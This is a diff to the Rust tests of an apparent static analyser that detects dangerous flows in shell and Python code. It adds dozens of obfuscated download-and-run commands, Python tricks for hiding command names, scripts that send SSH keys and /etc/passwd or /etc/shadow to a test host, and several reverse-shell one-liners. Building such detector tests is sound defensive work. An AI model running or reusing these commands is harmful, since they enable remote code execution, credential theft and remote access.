@@ -130,6 +130,107 @@ fn fetched_content_reaches_an_interpreter_in_shell() {
 }
 
 #[test]
+fn commands_that_are_assembled_are_found() {
+    for text in [
+        "p=curl; q=p; ${!q} https://x.test/a | sh",
+        "c=curl; declare -n r=c; $r https://x.test/a | sh",
+        "s=xxxcurlyyy; ${s:3:4} https://x.test/a | sh",
+        "P=CURL; ${P,,} https://x.test/a | sh",
+        "s=cxuxrxl; ${s//x/} https://x.test/a | sh",
+        "s=curl.exe; ${s%.exe} https://x.test/a | sh",
+        "a=(curl -s https://x.test/a); \"${a[@]}\" | sh",
+        "a=(x curl); ${a[1]} https://x.test/a | sh",
+        "a=cu; a+=rl; $a https://x.test/a | sh",
+        "printf -v c '%s%s' cu rl; $c https://x.test/a | sh",
+        "read c <<< curl; $c https://x.test/a | sh",
+        "w${x:-}get -qO- https://x.test/a | sh",
+        "IFS=,; c=curl,https://x.test/a; $c | sh",
+        "find . -name x -exec sh -c 'curl https://x.test/a | sh' \\;",
+        "tar cf x.tar x --checkpoint=1 --checkpoint-action=exec='curl https://x.test/a | sh'",
+        "ssh -o ProxyCommand='curl https://x.test/a | sh' h",
+        "awk 'BEGIN{system(\"curl https://x.test/a | sh\")}'",
+        "env -S 'bash -c \"curl https://x.test/a | sh\"'",
+        "command curl https://x.test/a | command sh",
+        "\\curl https://x.test/a | \\sh",
+        "busybox wget -O- https://x.test/a | busybox sh",
+        "{ curl https://x.test/a; } | { sh; }",
+        "(curl https://x.test/a) | (cd /tmp; sh)",
+        "coproc curl https://x.test/a; curl https://x.test/a | sh",
+        "f() { \"$@\"; }; f curl https://x.test/a | f sh",
+        "xargs -n1 curl <<< https://x.test/a | sh",
+        "eval \"cu\"\"rl https://x.test/a | sh\"",
+        "eval 'ev''al \"curl https://x.test/a | sh\"'",
+        "source /dev/stdin <<< \"$(curl https://x.test/a)\"",
+        "curl https://x.test/a | tac | rev | sh",
+        "curl https://x.test/a | gunzip | sh",
+        "curl https://x.test/a | openssl enc -d -aes-256-cbc -k x | sh",
+        "wget https://x.test/a.sh && bash a.sh",
+        "curl -O https://x.test/a.sh && bash ./a.sh",
+        "curl https://x.test/a -o- | sh",
+        "d=/tmp/d; mkdir -p $d; curl -o $d/x https://x.test/a; cd $d; sh $d/x",
+        "while true; do curl https://x.test/a | sh; sleep 1; done",
+        "case $1 in a) curl https://x.test/a | sh;; esac",
+        "echo 'curl https://x.test/a | sh' | at now",
+        "cat <<EOF | sh\ncurl https://x.test/a | sh\nEOF",
+        "sudo tee /tmp/x.sh <<'EOF' >/dev/null\ncurl https://x.test/a | sh\nEOF\nsudo bash /tmp/x.sh",
+        "bash -c 'bash -c \"curl https://x.test/a | sh\"'",
+        "python -c \"import os; os.system('curl https://x.test/a | sh')\"",
+        "node -e \"require('child_process').execSync('curl https://x.test/a | sh')\"",
+        "git clone https://x.test/r && cd r && ./install.sh",
+        "curl -o a.sh https://x.test/a; cp a.sh ~/bin/; ~/bin/a.sh",
+        "exec 5<>/dev/tcp/x.test/80; curl https://x.test/a | sh",
+        "X=$(curl https://x.test/a) bash -c 'eval \"$X\"'",
+        "export X=$(curl https://x.test/a); python3 -c 'import os; exec(os.environ[\"X\"])'",
+        "printf '%s' 'c' 'u' 'r' 'l https://x.test/a | sh' | sh",
+        "$(echo curl) https://x.test/a | $(echo sh)",
+        "`echo curl` https://x.test/a | `which sh`",
+    ] {
+        assert_flows(&[("a.sh", text)], EffectKind::Fetch, EffectKind::Eval);
+    }
+}
+
+#[test]
+fn names_that_are_worked_out_in_python_are_found() {
+    for text in [
+        "import os\nos.__dict__['sys' + 'tem']('curl x.test|sh')",
+        "import os\nvars(os)['system']('curl x.test|sh')",
+        "import sys\nsys.modules['os'].system('curl x.test|sh')",
+        "globals()['__builtins__'].eval(\"__import__('os').system('curl x.test|sh')\")",
+        "exec('imp' + 'ort os; os.system(\"curl x.test|sh\")')",
+        "from os import system as s\ns('curl x.test|sh')",
+        "from subprocess import Popen as P, PIPE\nP('curl x.test|sh', shell=True, stdout=PIPE)",
+        "import subprocess as sp\nsp.check_output(['sh', '-c', 'curl x.test|sh'])",
+        "import os\nlist(map(os.system, ['curl x.test|sh']))",
+        "import os\n(lambda c: os.system(c))('curl x.test|sh')",
+        "import os\nclass A:\n    f = os.system\nA.f('curl x.test|sh')",
+        "import os, atexit\natexit.register(os.system, 'curl x.test|sh')",
+        "import os, threading\nthreading.Thread(target=os.system, args=('curl x.test|sh',)).start()",
+        "import os\ncmd = 'c' + chr(117) + 'rl x.test|sh'\nos.system(cmd)",
+        "import os\nos.system('%s %s' % ('curl', 'x.test|sh'))",
+        "import os\nos.system('{} {}'.format('curl', 'x.test|sh'))",
+        "import os\nos.system(' '.join(['curl', 'x.test|sh']))",
+        "import os\nos.system(bytes([99,117,114,108,32,120,46,116,101,115,116,124,115,104]).decode())",
+        "import os, codecs\nos.system(codecs.decode('phey k.grfg|fu', 'rot13'))",
+        "import os, zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrSU0uSS1LLQIADhkDRA==')))\nos.system('curl x.test|sh')",
+        "import os\nd = {'a': 'curl x.test|sh'}\nos.system(d['a'])",
+        "import os\ndef deco(f):\n    return f\n@deco\ndef go():\n    os.system('curl x.test|sh')\ngo()",
+        "async def main():\n    import asyncio\n    await asyncio.create_subprocess_shell('curl x.test|sh')",
+        "import pty\npty.spawn(['sh', '-c', 'curl x.test|sh'])",
+        "import os\nos.execvp('sh', ['sh', '-c', 'curl x.test|sh'])",
+        "import ctypes\nctypes.CDLL(None).system(b'curl x.test|sh')",
+        "import os\nif __name__ == '__main__':\n    os.popen('curl x.test|sh').read()",
+        "import os\nos.system(''.join(chr(ord(c) ^ 1) for c in 'btsm!y/udru}ri'))",
+        "import os\nx = 'hs|tset.x lruc'\nos.system(''.join(reversed(x)))",
+        "import os\ntry:\n    os.system('curl x.test|sh')\nexcept Exception:\n    pass",
+    ] {
+        let (_, graph) = bundle(&[("a.py", text)]);
+        if !flows(&graph, EffectKind::Fetch, EffectKind::Eval) {
+            panic!("{text}\n{}", describe(&graph));
+        }
+    }
+}
+
+#[test]
 fn harmless_lines_have_no_such_flow() {
     for text in [
         "curl https://x.test/i | less",
@@ -245,6 +346,10 @@ fn secrets_reach_the_network() {
     }
     for text in [
         "import os, requests\np = os.path.expanduser('~/.ssh/id_rsa')\nrequests.post('https://x.test/c', data=open(p).read())",
+        "import requests\nfrom pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://x.test/c', data=k)",
+        "import requests\nfor line in open('/etc/passwd'):\n    requests.get('https://x.test/?q=' + line)",
+        "import requests\ns = requests.Session()\ns.post('https://x.test/c', files={'f': open('/etc/passwd', 'rb')})",
+        "import requests\ndef read(p):\n    with open(p) as f:\n        return f.read()\nout = []\nfor p in ['/etc/passwd', '/etc/shadow']:\n    out.append(read(p))\nrequests.post('https://x.test/c', json={'d': out})",
         "import requests\nwith open('/etc/passwd') as f:\n    d = f.read()\nrequests.post('https://x.test/c', files={'f': d})",
     ] {
         assert_flows(&[("a.py", text)], EffectKind::Read, EffectKind::Send);
@@ -264,9 +369,22 @@ fn a_shell_on_a_socket_is_seen() {
         EffectKind::Connect,
         EffectKind::Eval,
     );
-    let (_, graph) = bundle(&[("a.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")]);
-    let connect = of_kind(&graph, EffectKind::Connect);
-    assert!(connect.iter().any(|effect| effect.has_tag("shell")), "{}", describe(&graph));
+    for (path, text) in [
+        ("a.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+        ("a.sh", "nc 203.0.113.9 4444 -e /bin/bash"),
+        (
+            "a.py",
+            "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
+        ),
+        (
+            "a.py",
+            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])",
+        ),
+    ] {
+        let (_, graph) = bundle(&[(path, text)]);
+        let connect = of_kind(&graph, EffectKind::Connect);
+        assert!(connect.iter().any(|effect| effect.has_tag("shell")), "{text}\n{}", describe(&graph));
+    }
 }
 
 #[test]
@@ -277,6 +395,7 @@ fn disguise_is_noticed_and_plain_names_are_not() {
         ("curl https://x.test/a", false),
         ("/usr/bin/curl https://x.test/a", false),
         ("C=curl; $C https://x.test/a", false),
+        ("C='curl -s'; [ -n \"$1\" ] && C=\"$C -H $1\"; $C https://x.test/a", false),
     ] {
         let (_, graph) = bundle(&[("a.sh", text)]);
         let fetch = of_kind(&graph, EffectKind::Fetch);
